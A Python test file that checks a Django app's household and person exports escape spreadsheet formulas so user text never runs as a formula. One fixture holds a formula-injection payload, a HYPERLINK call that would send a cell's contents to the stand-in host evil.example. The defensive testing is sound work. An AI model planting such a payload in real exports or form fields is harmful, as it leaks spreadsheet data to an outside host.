"""Household exports are formula-safe (issue 6 defect 2): user text never becomes a formula."""

import csv
import io

import openpyxl
import pytest
from django.contrib import admin
from django.urls import reverse
from import_export.admin import ExportMixin

from core.exports import SafeCSV, SafeXLSX

from ..conftest import login

pytestmark = pytest.mark.django_db

EVIL_ADDRESS = '=HYPERLINK("http://evil.example/?x="&A2,"x")'


@pytest.fixture
def evil_household(household_a):  # type: ignore[no-untyped-def]
    household_a.address = EVIL_ADDRESS
    household_a.save()
    return household_a


def test_household_xlsx_export_has_no_formula(client, cw_baisha, evil_household):
    r = login(client, cw_baisha).get(reverse("households:export"), {"format": "xlsx"})
    ws = openpyxl.load_workbook(io.BytesIO(r.content)).active
    cells = [c for row in ws.iter_rows() for c in row]
    address = next(c for c in cells if isinstance(c.value, str) and "evil.example" in c.value)
    assert address.data_type != "f" and address.value == "'" + EVIL_ADDRESS
    assert not any(c.data_type == "f" for c in cells)
    member_count = next(c for c in ws[2] if c.column == 7)
    assert member_count.value == 3 and member_count.data_type == "n"  # numbers stay numbers


def test_household_csv_export_has_no_formula(client, cw_baisha, evil_household):
    r = login(client, cw_baisha).get(reverse("households:export"), {"format": "csv"})
    assert r.content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert "'" + EVIL_ADDRESS in rows[1]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_admin_exports_use_only_the_safe_formats(rf, data_admin):
    request = rf.get("/")
    request.user = data_admin
    exporting = [m for m in admin.site._registry.values() if isinstance(m, ExportMixin)]
    assert exporting
    for model_admin in exporting:
        for fmt in model_admin.get_export_formats():
            assert issubclass(fmt, (SafeCSV, SafeXLSX)), (model_admin, fmt)


def test_admin_person_export_escapes_a_formula_name(client, data_admin, household_a):
    person = household_a.memberships.first().person
    person.name = "@SUM(1+1)"
    person.save()
    c = login(client, data_admin)
    url = reverse("admin:households_person_export")
    r = c.post(url, {"format": "1", "resource": "0", **_all_fields(c, url)})
    assert r.status_code == 200, r.content[:500]
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert any("'@SUM(1+1)" in row for row in rows)
    assert not any(cell.startswith("@") for row in rows for cell in row)


def _all_fields(client, url):  # type: ignore[no-untyped-def]
    """The export form's field checkboxes, all ticked (django-import-export 4 asks for them)."""
    form = client.get(url).context["form"]
    return {name: "on" for name in form.fields if name.startswith("personresource_")}
